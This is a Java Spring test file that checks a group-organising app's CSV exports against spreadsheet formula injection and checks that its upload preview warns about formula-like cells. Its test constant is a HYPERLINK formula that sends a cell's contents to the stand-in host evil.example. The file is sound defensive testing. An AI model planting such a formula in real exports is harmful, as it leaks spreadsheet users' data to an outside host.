package org.convener;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;

import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.convener.demo.Demo;
import org.convener.platform.CommandLineInterface;
import org.convener.platform.accounts.Accounts;
import org.convener.platform.imports.DatasetImported;
import org.convener.platform.imports.DatasetImports;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ApplicationEventPublisher;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.test.web.servlet.MockMvc;

/** Downloads open safely in a spreadsheet, and uploads say when a cell looks like a formula. */
@ConvenerTest
class SpreadsheetSafeDownloadsTest {

    static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";

    @Autowired
    MockMvc mvc;

    @Autowired
    DatasetImports imports;

    @Autowired
    Demo demo;

    @Autowired
    Accounts accounts;

    @Autowired
    CommandLineInterface cli;

    @Autowired
    JdbcTemplate jdbc;

    @Autowired
    ApplicationEventPublisher events;

    @Test
    void membersImportWarnsOfFormulasAndMembersCsvWritesThemAsText() throws Exception {
        DemoData.loaded(imports, demo, accounts, cli);
        var organiser = DemoData.signIn(mvc, DemoData.DONCASTER_ORGANISER);
        String slug = "/groups/" + Demo.DONCASTER;
        String upload = "full_name,email,phone\n\"" + FORMULA.replace("\"", "\"\"")
                + "\",formula.person@example.net,+44 7700 900123\n";
        var file = new MockMultipartFile("file", "formula.csv", "text/csv", upload.getBytes(StandardCharsets.UTF_8));
        String preview = mvc.perform(
                        multipart(slug + "/import").file(file).with(csrf()).session(organiser))
                .andReturn()
                .getResponse()
                .getRedirectedUrl();
        String page = mvc.perform(get(preview).session(organiser))
                .andReturn()
                .getResponse()
                .getContentAsString();
        assertThat(page)
                .contains("2 warnings", "look like spreadsheet formulas", "<td>full_name</td>", "<td>phone</td>")
                .contains("begins with \"=\", so a spreadsheet would run it as a formula");
        mvc.perform(post(preview).with(csrf()).session(organiser));

        var csv = mvc.perform(get(slug + "/members.csv").session(organiser))
                .andReturn()
                .getResponse()
                .getContentAsString();
        CSVRecord row = records(csv).stream()
                .filter(r -> r.get("email").equals("formula.person@example.net"))
                .findFirst()
                .orElseThrow();
        assertThat(row.get("full_name")).isEqualTo("'" + FORMULA);
        assertThat(row.get("phone")).isEqualTo("'+44 7700 900123");
        assertThat(records(csv))
                .allSatisfy(r -> r.toList()
                        .forEach(cell -> assertThat(cell)
                                .doesNotStartWith("=")
                                .doesNotStartWith("+")
                                .doesNotStartWith("@")));
    }

    @Test
    void seatsCsvWritesAFormulaInTheRecordAsTextAndNumbersAsNumbers() throws Exception {
        OfficialData.imported(imports);
        String code = "E14001063";
        String name = jdbc.queryForObject(
                "select name from seats.member_of_parliament where constituency_code = ?", String.class, code);
        try {
            jdbc.update("update seats.member_of_parliament set name = ? where constituency_code = ?", FORMULA, code);
            events.publishEvent(new DatasetImported("mps"));
            var csv = mvc.perform(get("/seats.csv")).andReturn().getResponse().getContentAsString();
            var rows = records(csv);
            assertThat(rows)
                    .filteredOn(r -> r.get("ons_code").equals(code))
                    .singleElement()
                    .satisfies(r -> assertThat(r.get("mp")).isEqualTo("'" + FORMULA));
            // falls in Reform UK's share stay numbers a spreadsheet can add up
            assertThat(rows)
                    .extracting(r -> r.get("ruk_change_pct_points"))
                    .anySatisfy(change -> assertThat(change).matches("-\\d+(\\.\\d+)?"));
        } finally {
            jdbc.update("update seats.member_of_parliament set name = ? where constituency_code = ?", name, code);
            events.publishEvent(new DatasetImported("mps"));
        }
    }

    private static List<CSVRecord> records(String csv) throws Exception {
        return CSVFormat.DEFAULT
                .builder()
                .setHeader()
                .setSkipHeaderRecord(true)
                .get()
                .parse(new StringReader(csv))
                .getRecords();
    }
}
